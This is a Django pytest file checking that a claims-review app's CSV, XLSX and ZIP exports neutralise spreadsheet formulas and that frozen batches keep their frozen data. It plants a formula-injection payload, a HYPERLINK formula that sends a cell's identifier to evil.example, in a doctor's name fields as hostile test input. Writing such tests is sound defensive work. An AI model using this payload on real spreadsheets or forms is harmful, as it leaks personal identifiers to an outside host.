"""Issue 11, point 2: exports never carry a live formula, and a frozen batch exports what
it froze."""

import csv
import io
import zipfile

import pytest
from django.urls import reverse
from dossier_example import pdf_text
from factories_review import recip_e_outage, submitted_claim, use_fast_dossiers
from openpyxl import load_workbook
from pypdf import PdfReader

from claims.review.services.batches import batch_create, batch_freeze, batch_output_start

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("https://evil.example/?riziv="&C9,"Open")'


@pytest.fixture
def hostile_claim(monkeypatch):
    use_fast_dossiers(monkeypatch, pages=1)
    recip_e_outage()
    claim = submitted_claim(slots=((15, 8, 0, 15, 9, 0),), cancelled=())
    user = claim.doctor.user
    user.first_name, user.last_name = HOSTILE, "@SUM(A1)"
    user.save(update_fields=["first_name", "last_name"])
    return claim


def _frozen(reviewer, claim):
    batch = batch_create(name="Batch", reviewer=reviewer, claims=[claim.pk])
    return batch_freeze(batch=batch, reviewer=reviewer)


def _csv_rows(response):
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))


def test_the_csv_exports_neutralise_formulas(hostile_claim, reviewer, reviewer_client):
    rows = _csv_rows(reviewer_client.get(reverse("review:export_csv")))
    assert rows[1][1] == "'" + HOSTILE + " @SUM(A1)"
    batch = _frozen(reviewer, hostile_claim)
    rows = _csv_rows(reviewer_client.get(reverse("review:batch_export_csv", args=[batch.pk])))
    assert rows[1][1].startswith("'=HYPERLINK(")
    output = batch_output_start(batch=batch, kind="zip", user=reviewer, language="en")
    with zipfile.ZipFile(output.file.path) as archive:
        manifest = list(csv.reader(io.StringIO(archive.read("claims.csv").decode())))
    assert manifest[1][1].startswith("'=HYPERLINK(")


def test_the_xlsx_exports_hold_text_never_a_formula(hostile_claim, reviewer, reviewer_client):
    batch = _frozen(reviewer, hostile_claim)
    for url in (
        reverse("review:export_xlsx"),
        reverse("review:batch_export_xlsx", args=[batch.pk]),
    ):
        data = b"".join(reviewer_client.get(url).streaming_content)
        with zipfile.ZipFile(io.BytesIO(data)) as archive:
            sheet = archive.read("xl/worksheets/sheet1.xml").decode()
        assert "<f>" not in sheet and "<f " not in sheet
        workbook = load_workbook(io.BytesIO(data))
        cell = workbook.active["B2"]
        assert cell.data_type == "s"
        assert cell.value == "'" + HOSTILE + " @SUM(A1)"


def test_a_frozen_batch_exports_tomorrow_what_it_exported_today(
    hostile_claim, reviewer, reviewer_client
):
    batch = _frozen(reviewer, hostile_claim)
    url = reverse("review:batch_export_csv", args=[batch.pk])
    today = _csv_rows(reviewer_client.get(url))
    user = hostile_claim.doctor.user
    user.first_name, user.last_name = "Renamed", "Later"
    user.save(update_fields=["first_name", "last_name"])
    tomorrow = _csv_rows(reviewer_client.get(url))
    assert tomorrow == today
    assert "Renamed" not in tomorrow[1][1]
    output = batch_output_start(batch=batch, kind="zip", user=reviewer, language="en")
    with zipfile.ZipFile(output.file.path) as archive:
        manifest = list(csv.reader(io.StringIO(archive.read("claims.csv").decode())))
    assert manifest == today


def test_a_frozen_batchs_dossier_names_the_doctor_as_frozen(monkeypatch, reviewer):
    use_fast_dossiers(monkeypatch, pages=1)
    recip_e_outage()
    claim = submitted_claim(slots=((15, 8, 0, 15, 9, 0),), cancelled=())
    user = claim.doctor.user
    user.first_name, user.last_name = "Frozen", "Name"
    user.save(update_fields=["first_name", "last_name"])
    batch = _frozen(reviewer, claim)
    user.first_name, user.last_name = "Renamed", "Later"
    user.save(update_fields=["first_name", "last_name"])
    output = batch_output_start(batch=batch, kind="dossier", user=reviewer, language="en")
    with output.file.open("rb") as stored:
        pdf = stored.read()
    summary = " ".join(pdf_text(pdf).split())  # the table wraps long cells
    assert "Frozen Name" in summary
    assert "Renamed" not in summary
    outline = [item.title for item in PdfReader(io.BytesIO(pdf)).outline]
    assert any("Frozen Name" in title for title in outline)
    assert not any("Renamed" in title for title in outline)
